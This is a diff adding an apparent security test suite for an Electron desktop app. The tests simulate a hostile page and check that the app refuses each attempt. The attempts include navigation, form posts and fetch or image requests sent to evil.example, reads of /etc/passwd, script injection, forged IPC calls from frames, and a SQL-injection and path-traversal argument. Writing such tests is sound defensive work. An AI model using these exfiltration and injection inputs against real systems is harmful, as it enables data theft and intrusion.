@@ -1,0 +1,186 @@
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { simulator } from '../support/simulator.ts';
+import { temporaryFolder } from '../support/temporary-folder.ts';
+import { dropSample, fields, goUnprotected } from './clerk.ts';
+import { electronBinary, launchDesk } from './launch.ts';
+
+async function openDesk() {
+  const juhe = await simulator();
+  const home = join(temporaryFolder(), 'home');
+  const window = await launchDesk({ home, env: { JUHE_KEY: 'SECRET-KEY', JUHE_ENDPOINT: juhe.endpoint } });
+  await goUnprotected(window.page);
+  return { ...window, home };
+}
+
+test('attack: leaving the page by address, link, form, redirect or frame', async () => {
+  const { page } = await openDesk();
+  const before = page.url();
+  await page.evaluate(() => {
+    location.href = 'https://evil.example/';
+  });
+  await page.evaluate(() => {
+    const link = document.createElement('a');
+    link.href = 'file:///etc/passwd';
+    document.body.append(link);
+    link.click();
+  });
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    form.action = 'https://evil.example/';
+    form.method = 'post';
+    document.body.append(form);
+    form.submit();
+  });
+  await page.evaluate(() => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = '0;url=https://evil.example/';
+    document.head.append(meta);
+  });
+  await page.evaluate(() => location.assign('index.html?other'));
+  await page.waitForTimeout(500);
+  expect(page.url()).toBe(before);
+  await page.getByRole('button', { name: '打开图片' }).waitFor();
+});
+
+test('attack: opening another window', async () => {
+  const { page } = await openDesk();
+  const count = page.context().pages().length;
+  await page.evaluate(() => void window.open('https://evil.example/'));
+  await page.waitForTimeout(500);
+  expect(page.context().pages().length).toBe(count);
+});
+
+test('attack: sending what was read to somewhere else', async () => {
+  const { page } = await openDesk();
+  const refused = await page.evaluate(async () => {
+    const tries = [
+      () => fetch('https://evil.example/'),
+      () => fetch('/index.html'),
+      () =>
+        new Promise((resolve, reject) => {
+          const image = new Image();
+          image.onload = resolve;
+          image.onerror = () => reject(new Error('refused'));
+          image.src = 'https://evil.example/x.png';
+        }),
+    ];
+    return Promise.all(
+      tries.map((attempt) =>
+        attempt().then(
+          () => 'done',
+          () => 'refused',
+        ),
+      ),
+    );
+  });
+  expect(refused).toEqual(['refused', 'refused', 'refused']);
+  const ran = await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.body.append(script);
+    const button = document.createElement('button');
+    button.setAttribute('onclick', 'window.injected = true');
+    document.body.append(button);
+    button.click();
+    return 'injected' in window;
+  });
+  expect(ran).toBe(false);
+});
+
+test('attack: a frame inside our page has no bridge and may not load', async () => {
+  const { page } = await openDesk();
+  const bridge = await page.evaluate(async () => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = '<p>frame</p>';
+    document.body.append(frame);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return typeof (frame.contentWindow as Window | null)?.desk;
+  });
+  expect(bridge).toBe('undefined');
+});
+
+test.skipIf(electronBinary() !== null)('attack: a frame that forges a call is refused by main', async () => {
+  const { page } = await openDesk();
+  await page.evaluate(() => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = '<p>frame</p>';
+    document.body.append(frame);
+  });
+  await expect.poll(() => page.frames().length).toBe(2);
+  const forged = await page.frames()[1]?.evaluate(async () => {
+    const forge = (
+      window as unknown as { __standInInvoke: (channel: string, wire: unknown) => Promise<unknown> }
+    ).__standInInvoke;
+    return JSON.stringify(await forge('settings:read', { $: 'object', entries: [] }));
+  });
+  expect(forged).toContain('request-refused');
+  const unknown = await page.evaluate(async () => {
+    const forge = (
+      window as unknown as { __standInInvoke: (channel: string, wire: unknown) => Promise<unknown> }
+    ).__standInInvoke;
+    return JSON.stringify(await forge('electron-store-get-data', { $: 'object', entries: [] }));
+  });
+  expect(unknown).toContain('No handler registered');
+});
+
+test('attack: wrong, missing, additional and oversized arguments', async () => {
+  const { page } = await openDesk();
+  const answers = await page.evaluate(async () => {
+    const bytes = new Uint8Array(3);
+    const good = { bytes, name: 'x', side: 'front', vehicle: 'auto', again: false } as const;
+    const call = window.desk.recognise as (request: unknown) => ReturnType<typeof window.desk.recognise>;
+    const open = window.desk.open as (request: unknown) => ReturnType<typeof window.desk.open>;
+    const results = await Promise.all([
+      call(undefined),
+      call(null),
+      call({}),
+      call({ ...good, side: 'left' }),
+      call({ ...good, path: '/etc/passwd' }),
+      call({ ...good, bytes: 'text' }),
+      call({ ...good, bytes: [1, 2, 3] }),
+      call({ ...good, name: 'x'.repeat(256) }),
+      call({ ...good, bytes: new Uint8Array(65 * 1024 * 1024) }),
+      open({ jobId: "' OR 1=1 --" }),
+      open({ jobId: '../../etc/passwd' }),
+    ]);
+    return results.map((result) => (result.ok ? 'ok' : result.error.code));
+  });
+  expect(answers).toEqual(answers.map(() => 'request-invalid'));
+  const absent = await page.evaluate(async () => {
+    const result = await window.desk.open({ jobId: '00000000-0000-4000-8000-000000000000' });
+    return result.ok ? 'ok' : result.error.code;
+  });
+  expect(absent).toBe('record-not-found');
+});
+
+test('attack: the page looks for Node, the key, a path, or storage to leave something in', async () => {
+  const { page, home } = await openDesk();
+  await dropSample(page, 'front.jpg');
+  await fields(page).getByText('王三').waitFor();
+  const found = await page.evaluate(async () => {
+    const own = window as unknown as Record<string, unknown>;
+    const answers = await Promise.all([
+      window.desk.status({}),
+      window.desk.readSettings({}),
+      window.desk.latest({ limit: 20 }),
+    ]);
+    return {
+      node: ['process', 'require', 'Buffer', 'module', 'global'].filter((name) => name in own),
+      bridge: Object.values(window.desk).map((member) => typeof member),
+      everything: JSON.stringify(answers) + document.documentElement.outerHTML,
+      stored: [
+        localStorage.length,
+        sessionStorage.length,
+        document.cookie,
+        (await indexedDB.databases()).length,
+      ],
+    };
+  });
+  expect(found.node).toEqual([]);
+  expect(new Set(found.bridge)).toEqual(new Set(['function']));
+  expect(found.everything).not.toContain('SECRET-KEY');
+  expect(found.everything).not.toContain(home);
+  expect(found.stored).toEqual([0, 0, '', 0]);
+});
